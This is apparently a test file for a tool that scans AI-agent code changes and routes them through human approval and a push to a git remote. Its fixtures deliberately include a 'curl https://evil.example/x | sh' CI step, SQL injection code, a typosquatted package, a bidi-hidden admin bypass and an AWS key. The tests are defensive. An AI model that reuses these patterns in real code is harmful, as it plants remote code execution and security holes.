import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  createProposal,
  approveProposal,
  rejectProposal,
  applyProposal,
  proposalStatus,
  getProposal,
  toSarif,
} from '../../src/review/index.ts';
import { AirlockError } from '../../src/common/errors.ts';
import {
  setup,
  agentSession,
  gitHttpServer,
  makeRemote,
  rejectingHook,
  sh,
  runCli,
  type Env,
  type GitHttp,
} from './fixture.ts';

// End to end with a scripted agent: result repos as Airlock's capture writes them, the
// checks, human approvals, and apply to a real git remote served over HTTP by
// git-http-backend on 127.0.0.1 (push rejections by a real pre-receive hook included).

const AWS_KEY = 'AKIA' + 'Z7QH3KXW2M4PL9TB'; // built here so this file holds no key literal
const BIDI = '\u202E';

function org(remote: string, extra = ''): string {
  return `review:\n  approvals:\n    groups:\n      security: [sec@example.com]\n  overrideRoles: [security]\n  apply:\n    remote: ${remote}\n${extra}`;
}

async function withRemote<T>(fn: (srv: GitHttp, remoteRoot: string) => Promise<T>): Promise<T> {
  const root = mkdtempSync(join(tmpdir(), 'airlock-remote-'));
  const srv = await gitHttpServer(root);
  try {
    return await fn(srv, root);
  } finally {
    await srv.close();
    rmSync(root, { recursive: true, force: true });
  }
}

/** An environment whose org policy pushes to a fresh HTTP remote (remote.git); both cleaned up after. */
async function withRemoteEnv(fn: (env: Env, remote: string, srv: GitHttp) => Promise<void>): Promise<void> {
  await withRemote(async (srv, root) => {
    const env = setup(org(`${srv.url}/remote.git`));
    try {
      await fn(env, makeRemote(env, root), srv);
    } finally {
      env.done();
    }
  });
}

function rules(p: { findings: { rule: string }[] }): string[] {
  return p.findings.map((f) => f.rule).sort();
}

async function propose(env: Env, session: string, work: Record<string, string | null>) {
  agentSession(env, session, work);
  return (await createProposal(env.store, session, { orgPolicy: env.orgPolicy, home: env.home })).proposal;
}

test('each scripted agent change yields exactly its expected findings', async () => {
  const env = setup(org('http://127.0.0.1:9/none.git'));
  try {
    const clean = await propose(env, 's-clean', {
      'src/app.js':
        "const express = require('express');\nconst app = express();\napp.get('/health', (_req, res) => res.send('ok'));\nmodule.exports = app;\n",
    });
    assert.deepEqual(rules(clean), []);

    const aws = await propose(env, 's-aws', {
      'src/config.js': `module.exports = {\n  region: 'eu-west-1',\n  accessKeyId: '${AWS_KEY}',\n};\n`,
    });
    assert.deepEqual(rules(aws), ['secrets.secretlint/aws/AWSAccessKeyID']);
    assert.deepEqual(
      [aws.findings[0]!.file, aws.findings[0]!.line, aws.findings[0]!.severity, aws.findings[0]!.blocking],
      ['src/config.js', 3, 'critical', true],
    );
    assert.ok(!JSON.stringify(aws.findings).includes(AWS_KEY), 'the finding never carries the key');
    assert.ok(
      !JSON.stringify(env.store.query({ session: 's-aws' })).includes(AWS_KEY),
      'the audit log never carries the key',
    );

    const sql = await propose(env, 's-sql', {
      'src/app.js':
        "const express = require('express');\nconst db = require('./db');\nconst app = express();\napp.get('/user', async (req, res) => {\n  const rows = await db.query(\"SELECT * FROM users WHERE id = \" + req.query.id);\n  res.json(rows);\n});\nmodule.exports = app;\n",
      'src/db.py':
        'import sqlite3\n\ndef connect():\n    return sqlite3.connect("app.db")\n\ndef find(cur, name):\n    q = f"SELECT * FROM users WHERE name = \'{name}\'"\n    cur.execute(q)\n    cur.execute("SELECT * FROM users WHERE name = ?", (name,))\n',
    });
    assert.deepEqual(rules(sql), ['injection.sql', 'injection.sql']);
    assert.deepEqual(sql.findings.map((f) => `${f.file}:${f.line}`).sort(), ['src/app.js:5', 'src/db.py:8']);

    const typo = await propose(env, 's-typo', {
      'package.json':
        JSON.stringify(
          { name: 'app', version: '1.0.0', dependencies: { express: '4.19.2', lodahs: '^4.17.21' } },
          null,
          2,
        ) + '\n',
    });
    assert.deepEqual(rules(typo), ['dependencies.added', 'dependencies.typosquat']);
    assert.match(
      typo.findings.find((f) => f.rule === 'dependencies.typosquat')!.message,
      /"lodahs" looks like the popular package "lodash"/,
    );

    const ci = await propose(env, 's-ci', {
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example/x | sh\n',
    });
    assert.deepEqual(rules(ci), ['protectedPaths.protected']);

    const bidi = await propose(env, 's-bidi', {
      'src/auth.js': `function isAdmin(user) {\n  /* check role ${BIDI} } if (user.role === 'admin') { */\n  return true;\n}\nmodule.exports = isAdmin;\n`,
    });
    assert.deepEqual(rules(bidi), ['unicode.bidi']);
    assert.equal(bidi.findings[0]!.line, 2);

    // SARIF 2.1.0 export carries the same findings
    const sarif = toSarif(aws) as {
      version: string;
      runs: { results: { ruleId: string; locations: { physicalLocation: { region: { startLine: number } } }[] }[] }[];
    };
    assert.equal(sarif.version, '2.1.0');
    assert.equal(sarif.runs[0]!.results[0]!.ruleId, 'secrets.secretlint/aws/AWSAccessKeyID');
    assert.equal(sarif.runs[0]!.results[0]!.locations[0]!.physicalLocation.region.startLine, 3);
  } finally {
    env.done();
  }
});

test('approval yields a branch on the HTTP remote with the right content and trailers', async () => {
  await withRemoteEnv(async (env, remote, srv) => {
    const p = await propose(env, 's1', {
      'src/app.js':
        "const express = require('express');\nconst app = express();\napp.get('/', (_q, r) => r.send('hi'));\nmodule.exports = app;\n",
    });
    // the identity that started the agent cannot be the only approver
    approveProposal(env.store, p.id, { as: 'bob@example.com', env: {} });
    let st = proposalStatus(env.store, p);
    assert.equal(st.state, 'pending');
    assert.match(st.missing.join(), /other than bob@example.com/);
    await assert.rejects(
      applyProposal(env.store, p.id, { as: 'bob@example.com', env: {} }),
      (e: unknown) => e instanceof AirlockError && e.kind === 'DENIED',
    );
    approveProposal(env.store, p.id, { as: 'alice@example.com', env: {} });
    st = proposalStatus(env.store, p);
    assert.equal(st.state, 'approved');

    const r = await applyProposal(env.store, p.id, { as: 'alice@example.com', env: {} });
    assert.equal(r.branch, 'airlock/s1');
    const pushed = () => srv.requests.some((q) => q.method === 'POST' && q.path.endsWith('/git-receive-pack'));
    for (let i = 0; i < 100 && !pushed(); i++) await new Promise((res) => setTimeout(res, 20)); // the server's log arrives asynchronously
    assert.ok(pushed(), 'pushed over HTTP');
    const onRemote = sh(remote, 'rev-parse', 'refs/heads/airlock/s1');
    assert.equal(onRemote, r.commit);
    assert.equal(sh(remote, 'rev-parse', 'refs/heads/main'), env.base, 'main untouched');
    assert.equal(
      sh(remote, 'show', `${r.commit}:src/app.js`),
      sh(join(env.home, 'sessions', 's1', 'result.git'), 'show', `${p.head}:src/app.js`),
    );
    assert.equal(sh(remote, 'rev-parse', `${r.commit}^`), env.base, 'built on the base commit');
    const msg = sh(remote, 'log', '-1', '--format=%B', r.commit);
    assert.match(
      msg,
      /^Airlock: agent change from session s1 \(proposal \d+\)\n[\s\S]*^> {5}agent change\n\nAirlock-Session: s1\nAirlock-Proposal: \d+ sha256:[0-9a-f]{64}\nApproved-by: bob@example.com\nApproved-by: alice@example.com$/m,
    );
    assert.equal(
      sh(remote, 'log', '-1', '--format=%an <%ae>', r.commit),
      'Airlock <airlock@localhost>',
      "Airlock builds the pushed commit; the agent's is quoted",
    );
    assert.equal(proposalStatus(env.store, p).state, 'applied');
    const types = env.store.query({ session: 's1', type: 'review.*' }).map((e) => e.type);
    assert.deepEqual(types, [
      'review.proposed',
      'review.approved',
      'review.approved',
      'review.pushed',
      'review.applied',
    ]);
    // applying twice is refused
    await assert.rejects(applyProposal(env.store, p.id, { as: 'alice@example.com', env: {} }), /already applied/);
  });
});

test('protected paths escalate to two approvals; blocking findings need an override role with a reason', async () => {
  const env = setup(org('http://127.0.0.1:9/x.git'));
  try {
    const ci = await propose(env, 's-ci', { '.github/workflows/ci.yml': 'on: push\n' });
    approveProposal(env.store, ci.id, { as: 'alice@example.com', env: {} });
    assert.equal(proposalStatus(env.store, ci).state, 'pending');
    assert.equal(proposalStatus(env.store, ci).required, 2);
    approveProposal(env.store, ci.id, { as: 'carol@example.com', env: {} });
    assert.equal(proposalStatus(env.store, ci).state, 'approved');

    const bidi = await propose(env, 's-bidi', { 'src/x.js': `// ${BIDI}\n` });
    assert.throws(
      () => approveProposal(env.store, bidi.id, { as: 'alice@example.com', env: {} }),
      (e: unknown) => e instanceof AirlockError && e.kind === 'DENIED' && /blocking finding/.test(e.message),
    );
    assert.throws(
      () => approveProposal(env.store, bidi.id, { as: 'alice@example.com', overrideReason: 'fine', env: {} }),
      /may not override/,
    );
    approveProposal(env.store, bidi.id, {
      as: 'sec@example.com',
      overrideReason: 'test fixture, reviewed by security',
      env: {},
    });
    approveProposal(env.store, bidi.id, { as: 'alice@example.com', env: {} }); // allowed once overridden
    const st = proposalStatus(env.store, bidi);
    assert.equal(st.state, 'approved');
    assert.deepEqual(st.overrides, [{ by: 'sec@example.com', reason: 'test fixture, reviewed by security' }]);
    const ev = env.store.query({ session: 's-bidi', type: 'review.approved' });
    assert.equal(ev[0]!.rule, 'review.overrideRoles');
    assert.equal((ev[0]!.data as { reason: string }).reason, 'test fixture, reviewed by security');
  } finally {
    env.done();
  }
});

test('a proposal modified after approval cannot be applied', async () => {
  await withRemoteEnv(async (env, remote) => {
    const { resultRepo } = agentSession(env, 's-mod', { 'src/app.js': 'module.exports = 1;\n' });
    const p = (await createProposal(env.store, 's-mod', { orgPolicy: env.orgPolicy, home: env.home })).proposal;
    approveProposal(env.store, p.id, { as: 'alice@example.com', env: {} });
    // after approval, the result repo's head moves to a different commit (sneaking more in)
    const evil = sh(resultRepo, 'commit-tree', `${env.base}^{tree}`, '-p', p.head, '-m', 'more');
    sh(resultRepo, 'update-ref', 'refs/airlock/head', evil);
    await assert.rejects(
      applyProposal(env.store, p.id, { as: 'alice@example.com', env: {} }),
      (e: unknown) => e instanceof AirlockError && e.kind === 'TAMPERED',
    );
    assert.equal(sh(remote, 'for-each-ref', '--format=%(refname)', 'refs/heads/airlock'), '', 'nothing pushed');
    assert.equal(env.store.query({ session: 's-mod', type: 'review.tampered' }).length, 1);
    // a new proposal for the changed content does not inherit the approval
    sh(resultRepo, 'update-ref', 'refs/airlock/head', p.head);
    env.store.append({
      type: 'session.result',
      session: 's-mod',
      data: {
        resultRepo,
        baseCommit: env.base,
        headCommit: evil,
        commits: [p.head, evil],
        dirty: false,
        filesChanged: 1,
      },
    });
    sh(resultRepo, 'update-ref', 'refs/airlock/head', evil);
    const p2 = (await createProposal(env.store, 's-mod', { orgPolicy: env.orgPolicy, home: env.home })).proposal;
    assert.notEqual(p2.hash, p.hash);
    assert.equal(proposalStatus(env.store, p2).state, 'pending');
    assert.deepEqual(proposalStatus(env.store, p2).approvers, []);
    assert.equal(proposalStatus(env.store, getProposal(env.store, p.id)!).state, 'superseded');
  });
});

test('push rejected by the remote, unreachable remote, existing branch, protected branch: clear errors, nothing lost', async () => {
  await withRemoteEnv(async (env, remote) => {
    const p = await propose(env, 's-push', { 'src/app.js': 'module.exports = 2;\n' });
    approveProposal(env.store, p.id, { as: 'alice@example.com', env: {} });

    rejectingHook(remote, 'policy: pushes from bots are reviewed by hand');
    await assert.rejects(
      applyProposal(env.store, p.id, { as: 'alice@example.com', env: {} }),
      (e: unknown) =>
        e instanceof AirlockError &&
        e.kind === 'UNAVAILABLE' &&
        /rejected: .*pushes from bots are reviewed by hand/s.test(e.message),
    );
    const st = proposalStatus(env.store, p);
    assert.equal(st.state, 'approved', 'still approved, not applied');
    assert.match(st.lastApplyError ?? '', /pushes from bots/);
    rmSync(join(remote, 'hooks', 'pre-receive'));
    const ok = await applyProposal(env.store, p.id, { as: 'alice@example.com', env: {} });
    assert.equal(sh(remote, 'rev-parse', 'refs/heads/airlock/s-push'), ok.commit, 'retry after the fix succeeds');
  });

  // unreachable remote (nothing listens on the port)
  const env = setup(org('http://127.0.0.1:9/remote.git'));
  try {
    const p = await propose(env, 's-down', { 'src/app.js': 'module.exports = 3;\n' });
    approveProposal(env.store, p.id, { as: 'alice@example.com', env: {} });
    await assert.rejects(
      applyProposal(env.store, p.id, { as: 'alice@example.com', env: {} }),
      (e: unknown) =>
        e instanceof AirlockError &&
        e.kind === 'UNAVAILABLE' &&
        /cannot reach http:\/\/127\.0\.0\.1:9\/remote\.git/.test(e.message),
    );
    assert.equal(proposalStatus(env.store, p).state, 'approved');
    assert.equal(env.store.query({ session: 's-down', type: 'review.apply_failed' }).length, 1);
  } finally {
    env.done();
  }

  await withRemote(async (srv, root) => {
    const env2 = setup(org(`${srv.url}/remote.git`));
    try {
      const remote = makeRemote(env2, root);
      const p = await propose(env2, 's-exists', { 'src/app.js': 'module.exports = 4;\n' });
      approveProposal(env2.store, p.id, { as: 'alice@example.com', env: {} });
      sh(remote, 'update-ref', 'refs/heads/airlock/s-exists', env2.base); // someone else's branch of that name
      await assert.rejects(
        applyProposal(env2.store, p.id, { as: 'alice@example.com', env: {} }),
        /already exists on .* with other content/,
      );
      assert.equal(sh(remote, 'rev-parse', 'refs/heads/airlock/s-exists'), env2.base, 'left as it was');
    } finally {
      env2.done();
    }
    const env3 = setup(org(`${srv.url}/remote.git`, '    branchTemplate: main\n'));
    try {
      makeRemote(env3, root, 'remote.git.unused');
      const p = await propose(env3, 's-main', { 'src/app.js': 'module.exports = 5;\n' });
      approveProposal(env3.store, p.id, { as: 'alice@example.com', env: {} });
      await assert.rejects(
        applyProposal(env3.store, p.id, { as: 'alice@example.com', env: {} }),
        (e: unknown) => e instanceof AirlockError && e.kind === 'DENIED' && /protected branch "main"/.test(e.message),
      );
    } finally {
      env3.done();
    }
  });
});

test('bad input: unknown id, approving twice, approving a rejected proposal (CLI exit codes, no stack traces)', async () => {
  const env = setup(org('http://127.0.0.1:9/x.git'));
  try {
    const p = await propose(env, 's-bad', { 'src/app.js': 'module.exports = 6;\n' });
    const cli = (...a: string[]) => runCli(a, { AIRLOCK_HOME: env.home, AIRLOCK_ORG_POLICY: env.orgPolicy });
    let r = await cli('review', 'approve', '4242', '--as', 'alice@example.com');
    assert.equal(r.code, 66);
    assert.match(r.stderr, /unknown proposal: 4242/);
    r = await cli('review', 'show', 'abc');
    assert.equal(r.code, 64);
    r = await cli('review', 'approve', String(p.id), '--as', 'alice@example.com');
    assert.equal(r.code, 0, r.stderr);
    r = await cli('review', 'approve', String(p.id), '--as', 'ALICE@example.com');
    assert.equal(r.code, 75);
    assert.match(r.stderr, /already approved/);
    r = await cli('review', 'reject', String(p.id), '--as', 'carol@example.com', '--reason', 'wrong approach');
    assert.equal(r.code, 0, r.stderr);
    r = await cli('review', 'approve', String(p.id), '--as', 'dave@example.com');
    assert.equal(r.code, 75);
    assert.match(r.stderr, /was rejected by carol@example.com: wrong approach/);
    r = await cli('review', 'apply', String(p.id));
    assert.equal(r.code, 75);
    for (const out of [r.stderr]) assert.doesNotMatch(out, /\n\s+at /);
    assert.throws(() => rejectProposal(env.store, p.id, { as: 'x', reason: ' ', env: {} }), /needs --reason/);
    r = await cli('review', 'list', '--json');
    assert.deepEqual(JSON.parse(r.stdout), [], 'a rejected proposal is no longer pending');
    r = await cli('review', 'list', '--all', '--json');
    assert.equal((JSON.parse(r.stdout) as { state: string }[])[0]!.state, 'rejected');
    r = await cli('propose', 'no-such-session');
    assert.equal(r.code, 66);
    assert.match(r.stderr, /unknown session: no-such-session/);
  } finally {
    env.done();
  }
});

test('CLI: propose, show (findings inline, invisible characters made visible, --sarif), approval refused inside a sandbox', async () => {
  const env = setup(org('http://127.0.0.1:9/x.git'));
  try {
    agentSession(env, 's-cli', {
      'src/auth.js': `// admin ${BIDI} check\nmodule.exports = 1;\n`,
      'src/config.js': `module.exports = '${AWS_KEY}';\n`,
    });
    const cli = (a: string[], extra: Record<string, string> = {}) =>
      runCli(a, { AIRLOCK_HOME: env.home, AIRLOCK_ORG_POLICY: env.orgPolicy, ...extra });
    let r = await cli(['propose', 's-cli']);
    assert.equal(r.code, 1, 'blocking findings: exit 1');
    assert.match(r.stdout, /proposal 1 for session s-cli/);
    r = await cli(['review', 'show', '1']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /\+\/\/ admin <U\+202E> check\n {2}▲ \[critical, blocking\] unicode\.bidi/);
    assert.ok(!r.stdout.includes(BIDI), 'the raw bidi control never reaches the terminal');
    assert.ok(!r.stdout.includes('\x1b['), 'no colour when not a TTY');
    assert.match(r.stdout, /▲ \[critical, blocking\] secrets\.secretlint\/aws\/AWSAccessKeyID/);
    r = await cli(['review', 'show', '1', '--sarif']);
    const sarif = JSON.parse(r.stdout) as { version: string; runs: { results: unknown[] }[] };
    assert.equal(sarif.version, '2.1.0');
    assert.equal(sarif.runs[0]!.results.length, 2);
    assert.ok(!r.stdout.includes(AWS_KEY));
    r = await cli(['review', 'approve', '1', '--as', 'sec@example.com', '--override-reason', 'x'], {
      AIRLOCK_SANDBOX: '1',
    });
    assert.equal(r.code, 77);
    assert.match(r.stderr, /cannot be given from inside a sandbox/);
    assert.ok(existsSync(join(env.home, 'audit.db')));
  } finally {
    env.done();
  }
});
